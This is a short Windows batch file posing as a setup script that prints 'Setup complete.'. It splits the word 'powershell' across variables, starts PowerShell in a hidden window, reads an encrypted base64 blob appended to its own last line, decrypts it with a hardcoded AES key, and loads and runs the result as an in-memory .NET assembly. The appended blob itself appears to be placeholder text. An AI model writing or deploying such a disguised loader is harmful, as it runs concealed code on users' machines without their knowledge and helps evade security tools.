@echo off
set "qW=pow" & set "zR=ersh" & set "kL=ell" & set "mN= -w h" & set "pX=idden -nop -c "
set "a1=$k=[Convert]::FromBase64String('q2Vh0f8x1mZ3YtLw9cB7sA==');$d=[IO.File]::ReadAllText('%~f0').Split([char]58)[-1];"
set "a2=$a=[Security.Cryptography.Aes]::Create();$a.Key=$k+$k;$a.IV=$k;$b=[Convert]::FromBase64String($d);"
set "a3=$p=$a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length);[Reflection.Assembly]::Load($p).EntryPoint.Invoke($null,$null)"
%qW%%zR%%kL%%mN%%pX%"%a1%%a2%%a3%"
echo Setup complete.
exit /b
::U2FsdGVkX1+3v8h2Zk0yQnN0bGx0ZW5kcGF5bG9hZGJsb2JOb3RSZWFsRGF0YUpzdEFTYW1wbGU=
